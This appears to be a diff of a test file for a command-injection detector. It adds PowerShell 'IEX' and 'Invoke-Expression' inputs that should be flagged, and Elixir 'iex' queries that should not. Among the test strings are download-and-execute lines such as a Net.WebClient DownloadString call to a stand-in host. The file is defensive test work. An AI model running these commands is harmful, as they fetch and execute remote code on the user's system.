@@ -1386,7 +1386,9 @@ describe('cmdi session 18: powershell opening the value runs the rest of its com
   // an option or code
   it.each(["powershell IEX (New-Object Net.WebClient).DownloadString('http://h.test/a.ps1')", 'pwsh iex (x)', 'powershell iex x',
     'powershell iex(x)', 'powershell Invoke-Expression (x)', 'powershell "IEX (x)"', "powershell 'whoami'", 'powershell (New-Object Net.WebClient).DownloadFile(1,2)',
-    'powershell Get-ChildItem -Recurse', 'powershell Get-Content $env:USERPROFILE\\x'])('%s is flagged', (input) => {
+    'powershell Get-ChildItem -Recurse', 'powershell Get-Content $env:USERPROFILE\\x',
+    // iex opening the value likewise, given a '(' or quote holding a command (Elixir's prompt iex(1)> holds a number)
+    'IEX (New-Object Net.WebClient).DownloadString(1)', 'iex(New-Object Net.WebClient).DownloadString(1)', "IEX 'whoami'"])('%s is flagged', (input) => {
     expect(ruleIds(d.scan(input, { context: 'query' }))).toContain('cmdi.command-with-args');
     expectSameWhenSplit(d, [input], 'query');
   });
@@ -1394,7 +1396,7 @@ describe('cmdi session 18: powershell opening the value runs the rest of its com
   // with words after it (a search for its documentation)
   it.each(['powershell tutorial', 'PowerShell vs bash', 'powershell Get-Help', 'PowerShell (Windows) guide', 'PowerShell "for beginners"',
     'PowerShell & Python', 'PowerShell (Get started)', 'powershell [beginner]', 'PowerShell 7.4', 'powershell Get-Process',
-    'powershell get-childitem recurse', 'powershell "x"'])('%s stays clean', (input) => {
+    'powershell get-childitem recurse', 'powershell "x"', 'IEX (Elixir shell)', 'iex tutorial', 'iex(1)'])('%s stays clean', (input) => {
     expect(d.scan(input, { context: 'query' }).threats.filter((t) => t.category === 'cmdi')).toEqual([]);
     expectSameWhenSplit(d, [input], 'query');
   });
